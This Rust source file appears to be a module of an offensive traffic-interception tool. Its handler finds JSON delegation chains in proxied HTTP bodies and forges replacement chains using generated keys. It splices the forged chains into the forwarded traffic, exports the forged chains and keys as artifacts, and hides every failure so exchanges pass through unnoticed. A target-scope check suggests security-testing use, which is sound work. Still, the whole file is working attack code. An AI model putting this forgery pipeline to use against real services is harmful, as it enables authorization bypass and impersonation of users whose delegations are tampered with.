//! Traffic interceptor
//!
//! Registered with the host as an [`ExchangeHandler`]. Exchanges whose JSON
//! body carries a delegation chain are routed through
//! parse → key store → forgery → export, and the bytes of the chain value
//! are spliced out of the forwarded body. Every other byte of the body is
//! forwarded as received. Everything else, and every failure, passes
//! through untouched: this handler never surfaces an error or a panic to
//! the host.

use std::collections::BTreeMap;
use std::ops::Range;
use std::panic::{self, AssertUnwindSafe};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

use serde_json::value::RawValue;
use serde_json::Value;

use crate::delegation::{self, has_chain_fields, looks_like_chain};
use crate::error::PipelineError;
use crate::export::{self, ArtifactLog};
use crate::forgery::{ForgeryEngine, ForgeryResult};
use crate::host::{
    Diagnostic, ExchangeAction, ExchangeHandler, HostHooks, InterceptedExchange, Severity,
};
use crate::keystore::{Fingerprint, KeyMaterialStore};
use crate::scope::TargetScope;

/// How deep into a JSON body the candidate search descends
const MAX_SEARCH_DEPTH: usize = 8;

/// Byte markers a body must contain before it is worth parsing as JSON
const CHAIN_MARKERS: [&[u8]; 2] = [b"delegations", b"delegationChain"];

#[derive(Debug, Default)]
struct InterceptorStats {
    seen: AtomicU64,
    out_of_scope: AtomicU64,
    candidates: AtomicU64,
    forged: AtomicU64,
    passed_through_on_error: AtomicU64,
    panics: AtomicU64,
}

/// Point-in-time interceptor counters
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct InterceptorStatsSnapshot {
    pub seen: u64,
    pub out_of_scope: u64,
    pub candidates: u64,
    pub forged: u64,
    pub passed_through_on_error: u64,
    pub panics: u64,
}

impl InterceptorStats {
    fn bump(counter: &AtomicU64) {
        counter.fetch_add(1, Ordering::Relaxed);
    }

    fn snapshot(&self) -> InterceptorStatsSnapshot {
        InterceptorStatsSnapshot {
            seen: self.seen.load(Ordering::Relaxed),
            out_of_scope: self.out_of_scope.load(Ordering::Relaxed),
            candidates: self.candidates.load(Ordering::Relaxed),
            forged: self.forged.load(Ordering::Relaxed),
            passed_through_on_error: self.passed_through_on_error.load(Ordering::Relaxed),
            panics: self.panics.load(Ordering::Relaxed),
        }
    }
}

/// Stages that only exist while forgery is enabled
struct ForgePipeline {
    store: Arc<KeyMaterialStore>,
    engine: ForgeryEngine,
}

pub struct DelegationInterceptor {
    scope: TargetScope,
    pipeline: Option<ForgePipeline>,
    host: Arc<dyn HostHooks>,
    artifacts: Arc<ArtifactLog>,
    stats: InterceptorStats,
}

/// Where in the body the chain was found
#[derive(Debug)]
struct Candidate {
    /// Byte range of the JSON value holding the chain
    span: Range<usize>,
    /// The chain's own JSON text
    chain: String,
    /// The chain is JSON serialised inside a string value
    embedded: bool,
}

impl DelegationInterceptor {
    pub fn new(
        scope: TargetScope,
        store: Arc<KeyMaterialStore>,
        engine: ForgeryEngine,
        host: Arc<dyn HostHooks>,
        artifacts: Arc<ArtifactLog>,
    ) -> Self {
        Self {
            scope,
            pipeline: Some(ForgePipeline { store, engine }),
            host,
            artifacts,
            stats: InterceptorStats::default(),
        }
    }

    /// Interceptor that observes traffic but never forges
    pub fn passthrough_only(host: Arc<dyn HostHooks>, artifacts: Arc<ArtifactLog>) -> Self {
        Self {
            scope: TargetScope::unrestricted(),
            pipeline: None,
            host,
            artifacts,
            stats: InterceptorStats::default(),
        }
    }

    pub fn forgery_enabled(&self) -> bool {
        self.pipeline.is_some()
    }

    pub fn stats(&self) -> InterceptorStatsSnapshot {
        self.stats.snapshot()
    }

    /// Full pipeline for one exchange; `Ok(None)` means not a candidate
    fn process(&self, exchange: &InterceptedExchange) -> Result<Option<Vec<u8>>, PipelineError> {
        let Some(pipeline) = &self.pipeline else {
            return Ok(None);
        };
        let Some(body) = exchange.body.as_deref() else {
            return Ok(None);
        };
        if !CHAIN_MARKERS.iter().any(|m| contains(body, m)) {
            return Ok(None);
        }

        if !self.scope.is_in_scope(&exchange.url) {
            InterceptorStats::bump(&self.stats.out_of_scope);
            return Ok(None);
        }

        // Bodies that are not JSON are not candidates, not failures
        let Ok(text) = std::str::from_utf8(body) else {
            return Ok(None);
        };
        let Some(candidate) = find_candidate(text, MAX_SEARCH_DEPTH) else {
            return Ok(None);
        };
        InterceptorStats::bump(&self.stats.candidates);

        let chain = delegation::parse(candidate.chain.as_bytes())?;
        // Unforgeable chains must not cost a key generation
        chain.validate_integrity()?;

        let host = exchange.host().unwrap_or_default();
        let fingerprint = Fingerprint::derive(&host, &chain.session_id());
        let key = pipeline.store.get_or_create(&fingerprint)?;
        let forged = pipeline.engine.forge(&chain, &key)?;

        let replacement = forged.to_json_value();
        let result = ForgeryResult {
            forged,
            key: &key,
        };
        match export::export(&result) {
            Ok(artifact) => self.artifacts.push(artifact),
            Err(e) => self.host.record_diagnostic(Diagnostic {
                exchange_id: Some(exchange.id),
                url: Some(exchange.url.clone()),
                ..Diagnostic::new("export", Severity::Warning, e.to_string())
            }),
        }

        let encoded = if candidate.embedded {
            Value::String(replacement.to_string()).to_string()
        } else {
            replacement.to_string()
        };

        tracing::debug!(
            exchange = exchange.id,
            direction = %exchange.direction,
            host = %host,
            fingerprint = fingerprint.short(),
            "Substituted forged delegation chain"
        );

        let mut out = Vec::with_capacity(body.len() - candidate.span.len() + encoded.len());
        out.extend_from_slice(&body[..candidate.span.start]);
        out.extend_from_slice(encoded.as_bytes());
        out.extend_from_slice(&body[candidate.span.end..]);
        Ok(Some(out))
    }
}

impl ExchangeHandler for DelegationInterceptor {
    fn name(&self) -> &str {
        "delegation-forge"
    }

    fn on_exchange(&self, exchange: &InterceptedExchange) -> ExchangeAction {
        InterceptorStats::bump(&self.stats.seen);

        match panic::catch_unwind(AssertUnwindSafe(|| self.process(exchange))) {
            Ok(Ok(Some(body))) => {
                InterceptorStats::bump(&self.stats.forged);
                ExchangeAction::ReplaceBody(body)
            }
            Ok(Ok(None)) => ExchangeAction::PassThrough,
            Ok(Err(err)) => {
                InterceptorStats::bump(&self.stats.passed_through_on_error);
                self.host
                    .record_diagnostic(Diagnostic::from_pipeline_error(exchange.id, &exchange.url, &err));
                ExchangeAction::PassThrough
            }
            Err(_) => {
                InterceptorStats::bump(&self.stats.panics);
                self.host.record_diagnostic(Diagnostic {
                    exchange_id: Some(exchange.id),
                    url: Some(exchange.url.clone()),
                    ..Diagnostic::new(
                        "interceptor",
                        Severity::Error,
                        "pipeline panicked; exchange passed through",
                    )
                });
                ExchangeAction::PassThrough
            }
        }
    }
}

/// Depth-bounded search for the first chain-shaped value in `body`
fn find_candidate(body: &str, depth: usize) -> Option<Candidate> {
    let root: &RawValue = serde_json::from_str(body).ok()?;
    search(body, root, depth)
}

fn search(body: &str, raw: &RawValue, depth: usize) -> Option<Candidate> {
    let text = raw.get();
    let start = (text.as_ptr() as usize).checked_sub(body.as_ptr() as usize)?;
    let span = start..start + text.len();

    let children: Vec<&RawValue> = match text.as_bytes().first()? {
        b'{' => {
            let fields: BTreeMap<String, &RawValue> = serde_json::from_str(text).ok()?;
            if has_chain_fields(|key| fields.contains_key(key)) {
                return Some(Candidate {
                    span,
                    chain: text.to_string(),
                    embedded: false,
                });
            }
            let mut values: Vec<&RawValue> = fields.into_values().collect();
            values.sort_by_key(|v| v.get().as_ptr() as usize);
            values
        }
        b'[' => serde_json::from_str(text).ok()?,
        b'"' => {
            let inner: String = serde_json::from_str(text).ok()?;
            return parse_embedded(&inner).map(|chain| Candidate {
                span,
                chain,
                embedded: true,
            });
        }
        _ => return None,
    };

    if depth == 0 {
        return None;
    }
    children.into_iter().find_map(|child| search(body, child, depth - 1))
}

/// Chain JSON serialised inside a string value
fn parse_embedded(text: &str) -> Option<String> {
    let trimmed = text.trim();
    if !trimmed.starts_with('{') || !CHAIN_MARKERS.iter().any(|m| contains(trimmed.as_bytes(), m)) {
        return None;
    }
    serde_json::from_str::<Value>(trimmed)
        .ok()
        .filter(looks_like_chain)
        .map(|_| trimmed.to_string())
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}
